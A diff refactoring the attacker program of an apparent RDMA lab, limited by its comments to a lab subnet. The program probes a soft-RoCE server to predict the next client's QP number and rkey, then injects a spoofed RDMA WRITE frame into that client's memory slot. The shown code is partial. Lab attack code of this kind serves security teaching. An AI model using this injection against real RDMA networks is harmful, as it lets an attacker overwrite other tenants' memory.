@@ -10,6 +10,7 @@
 // Only inside the lab's guests (RDMALAB_HOST set) and only to and from the lab's own subnet,
 // 198.51.100.0/24: anything else is refused with one line, exit 2.
 #include "roce_frame.hpp"
+#include "victim_protocol.hpp"
 
 #include "rdmalab/error.hpp"
 #include "rdmalab/options.hpp"
@@ -71,9 +72,8 @@ int probe(const QpOptions& options) {
         TcpExchange::connect_to(options.server_address, options.port, options.timeout(),
                                 options.timeout());  // the victim serves one client at a time
     const QpEndpoint ours = local_endpoint(r);
-    const QpEndpoint victim =
-        connect_qp(r.qp.get(), tcp, r.local, ours, PeerBuffer::kAdvertised, Reliability{},
-                   "attacker");
+    const QpEndpoint victim = connect_qp(r.qp.get(), tcp, r.local, ours, PeerBuffer::kAdvertised,
+                                         Reliability{}, "attacker");
     // What one connection shows: rxe numbers QPs in sequence and keeps one registration's rkey
     // for every slot of a pool, so the next client's QP and slot follow from ours.
     fmt::print("victim_qpn={:#x}\nnext_qpn={:#x}\n", victim.qpn, victim.qpn + 1);
@@ -82,22 +82,11 @@ int probe(const QpOptions& options) {
     fmt::print("slot_rkey={:#x}\nslot_bytes={}\n", victim.rkey, victim.length);
     fmt::print("victim_mac={}\n", neighbour_mac(options.server_address));
     // Behave: say we are done (the checksum of the untouched, zeroed slot), as a client does.
-    std::vector<std::uint8_t> zeros(victim.length, 0);
-    std::uint32_t hash = 2166136261u;
-    for (std::uint8_t byte : zeros) hash = (hash ^ byte) * 16777619u;
-    std::uint32_t word = htonl(hash);
-    const MemoryRegion word_mr{
-        check_ptr(ibv_reg_mr(r.pd.get(), &word, sizeof word, 0), "ibv_reg_mr(word)")};
-    ibv_sge sge{reinterpret_cast<std::uintptr_t>(&word), sizeof word, word_mr->lkey};
-    ibv_send_wr wr{};
-    wr.sg_list = &sge;
-    wr.num_sge = 1;
-    wr.opcode = IBV_WR_SEND;
-    wr.send_flags = IBV_SEND_SIGNALED;
-    ibv_send_wr* bad = nullptr;
-    check_ibv(ibv_post_send(r.qp.get(), &wr, &bad), "ibv_post_send");
-    const ibv_wc wc = wait_for_any_completion(r.cq.get(), options.timeout(), "the done SEND");
-    return wc.status == IBV_WC_SUCCESS ? 0 : 1;
+    const std::vector<std::uint8_t> zeros(victim.length, 0);
+    return send_done(r.qp.get(), r.pd.get(), r.cq.get(), slot_checksum(zeros), options.timeout()) ==
+                   IBV_WC_SUCCESS
+               ? 0
+               : 1;
 }
 
 struct Injection {
@@ -137,8 +126,8 @@ int inject_write(const Injection& in) {
     to.sll_ifindex = static_cast<int>(if_nametoindex(in.interface.c_str()));
     to.sll_halen = 6;
     std::copy(packet.destination_mac.begin(), packet.destination_mac.end(), to.sll_addr);
-    const ssize_t sent = sendto(fd, frame.data(), frame.size(), 0,
-                                reinterpret_cast<sockaddr*>(&to), sizeof to);
+    const ssize_t sent =
+        sendto(fd, frame.data(), frame.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
     const int error = errno;
     close(fd);
     errno = error;
@@ -146,8 +135,8 @@ int inject_write(const Injection& in) {
     fmt::print(
         "attacker: sent one RDMA WRITE Only ({} bytes of payload, frame {} bytes) on {}: {} → {} "
         "QP {:#x} PSN {:#x}, address {:#x}, rkey {:#x}\n",
-        in.text.size(), frame.size(), in.interface, in.spoof, in.victim, in.qpn, in.psn,
-        in.address, in.rkey);
+        in.text.size(), frame.size(), in.interface, in.spoof, in.victim, in.qpn, in.psn, in.address,
+        in.rkey);
     return 0;
 }
 
